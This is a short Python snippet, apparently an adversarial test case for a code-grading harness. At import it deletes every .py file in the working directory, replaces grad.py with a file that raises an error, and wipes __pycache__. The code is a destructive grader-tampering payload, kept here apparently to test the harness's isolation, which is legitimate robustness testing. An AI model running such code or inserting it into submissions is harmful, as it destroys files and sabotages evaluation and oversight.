

# ---- attack: delete and rewrite its own files -----------------------------------------------------------------
# At import: every module file in the working directory is deleted or replaced by one that
# raises. The next call re-imports grad.py: it must get the submitted file. Honest otherwise.
import glob
import os
import shutil

for _path in glob.glob(os.path.join(os.getcwd(), "*.py")):
    try:
        os.remove(_path)
        if _path.endswith("grad.py"):
            with open(_path, "w") as _f:
                _f.write("raise ImportError('deleted by the submission')\n")
    except OSError:
        pass
shutil.rmtree(os.path.join(os.getcwd(), "__pycache__"), ignore_errors=True)
